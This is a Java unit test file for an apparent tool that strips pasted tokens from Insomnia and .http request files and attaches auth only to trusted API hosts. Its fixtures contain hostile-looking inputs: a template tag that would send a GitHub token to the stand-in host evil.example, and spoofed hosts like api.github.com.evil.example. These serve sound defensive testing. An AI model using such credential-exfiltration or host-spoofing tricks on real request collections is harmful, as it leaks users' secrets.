package io.github.authdex.generator.apply;

import static org.assertj.core.api.Assertions.assertThat;

import io.github.authdex.generator.apply.ApplyReport.LeftPart;
import io.github.authdex.generator.apply.ApplyReport.SetAuth;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.params.ParameterizedTest;
import org.junit.jupiter.params.provider.ValueSource;

/** Files of Insomnia, and of requests as they go over the wire. */
final class InsomniaApplyTest {
  private static final String PASTED = "ghp_0123456789abcdefghij0123456789abcdef";

  private static final String NESTED =
      """
      type: collection.insomnia.rest/5.0
      name: Mine # kept
      collection:
        - name: GitHub
          meta:
            id: fld_1
          children:
            - url: "{{ _.base }}/user"
              name: Me
              method: GET
              headers:
                - name: Accept
                  value: application/json
                - name: Authorization
                  value: Bearer PASTED
              authentication: {}
            - url: https://api.github.com/user/repos
              name: Repositories
              method: GET
        - url: URL
          name: Other
          method: GET
      environments:
        name: Base
        data:
          base: https://api.github.com
      """
          .replace("PASTED", PASTED);

  private static final String FLAT =
      """
      {"_type": "export", "__export_format": 4, "resources": [
        {"_id": "req_1", "parentId": "fld_1", "_type": "request", "name": "Me", "method": "GET",
          "url": "{{ base }}/user", "headers": [], "authentication": {}},
        {"_id": "fld_1", "parentId": "wrk_1", "_type": "request_group", "name": "Folder"FOLDER},
        {"_id": "wrk_1", "parentId": null, "_type": "workspace", "name": "Mine"},
        {"_id": "env_1", "parentId": "wrk_1", "_type": "environment", "data":
          {"base": "https://api.github.com", "token": "SECRET-OF-MINE"}}]}
      """;

  @Test
  void setsAuthOnAFolderInTheFormOfTheFile() {
    AppliedText done = AppliedText.of(NESTED.replace("URL", "https://evil.example"));

    assertThat(done.report().set())
        .containsExactly(new SetAuth("GitHub", "github", "GitHub", "bearer", 2));
    assertThat(done.after())
        .contains("name: Mine # kept\n", "token: '{{ _.github_token }}'\n")
        .doesNotContain(PASTED, "Authorization");
    assertThat(done.tree().at("/collection/0/authentication/type").asText()).isEqualTo("bearer");
    assertThat(AppliedText.of(done.after()).isChanged()).isFalse();
  }

  @ParameterizedTest
  @ValueSource(
      strings = {
        "\"{{ _.base }}{{ _.x }}/user\"",
        "\"{% prompt 'host' %}/user\"",
        "\"https://{{ _.base | safe }}/user\"",
        "\"https://api.github.com{% if 1 %}.evil.example{% endif %}/user\"",
        "\"https://evil.example/{{ _.base }}\""
      })
  void aStrangersRequestGetsNothing(String url) {
    AppliedText done = AppliedText.of(NESTED.replace("URL", url));

    assertThat(done.report().set()).extracting(SetAuth::where).containsExactly("GitHub");
    assertThat(done.tree().at("/collection/1").has("authentication")).isFalse();
    assertThat(done.report().unknown()).extracting(LeftPart::where).containsExactly("Other");
  }

  @Test
  void aVariableThatATagOfAStrangersRequestSpeaksOfIsNotUsed() {
    AppliedText done =
        AppliedText.of(
            NESTED.replace(
                "URL", "\"https://evil.example/{% base64 'encode', 'normal', _.github_token %}\""));

    assertThat(done.after()).contains("{{ _.github_2_token }}");
  }

  @Test
  void anOlderExportGetsAuthOnItsRequestsUnlessItsFoldersHaveSome() {
    AppliedText old = AppliedText.of(FLAT.replace("FOLDER", ""));
    AppliedText folders = AppliedText.of(FLAT.replace("FOLDER", ", \"authentication\": {}"));

    assertThat(old.report().set()).extracting(SetAuth::where).containsExactly("Mine / Folder / Me");
    assertThat(old.tree().at("/resources/0/authentication/token").asText())
        .isEqualTo("{{ _.github_token }}");
    assertThat(old.tree().at("/resources/3/data/token").asText()).isEmpty();
    assertThat(folders.report().set()).extracting(SetAuth::where).containsExactly("Mine / Folder");
    assertThat(AppliedText.of(folders.after()).isChanged()).isFalse();
  }

  @Test
  void resourcesThatAreInEachOtherAreNoTrouble() {
    AppliedText done =
        AppliedText.of(
            FLAT.replace("FOLDER", "")
                .replace("\"parentId\": \"wrk_1\"", "\"parentId\": \"fld_1\""));

    assertThat(done.report().set()).isEmpty();
  }

  @Test
  void aFileOfRequestsGetsHeaders() {
    String text =
        """
        @base = https://api.github.com
        @password = hunter2-hunter2

        ### Me
        # @name me
        GET {{base}}/user HTTP/1.1
        Accept: application/json
        Authorization: Bearer PASTED

        ###
        {{base}}/user/repos
            ?per_page=1

        ### Other
        POST https://evil.example/?api_key=abc-123-def
        Content-Type: application/json

        {"client_secret": "shh-shh-1", "n": {{n}}}

        ### Trap
        GET https://api.github.com
            .evil.example/user
        """
            .replace("PASTED", PASTED);
    AppliedText done = AppliedText.of(text);

    assertThat(done.after())
        .isEqualTo(
            text.replace(PASTED, "{{github_token}}")
                .replace("hunter2-hunter2", "")
                .replace("?per_page=1\n", "?per_page=1\nAuthorization: Bearer {{github_token}}\n")
                .replace("abc-123-def", "{{evil_example_api_key}}")
                .replace("shh-shh-1", "{{evil_example_client_secret}}"));
    assertThat(done.report().set())
        .extracting(SetAuth::where)
        .containsExactly("me", "GET {{base}}/user/repos");
    assertThat(done.report().unknown())
        .extracting(LeftPart::where)
        .containsExactly("Other", "Trap");
    assertThat(AppliedText.of(done.after()).isChanged()).isFalse();
  }

  @Test
  void anApiThatTakesBasicAloneGetsItsLine() {
    AppliedText done =
        AppliedText.of("GET https://api.twilio.com/2010-04-01/Accounts.json\r\n\r\n");

    assertThat(done.after())
        .startsWith(
            "GET https://api.twilio.com/2010-04-01/Accounts.json\r\nAuthorization: Basic {{")
        .endsWith("}}\r\n\r\n");
    assertThat(AppliedText.of(done.after()).isChanged()).isFalse();
  }
}
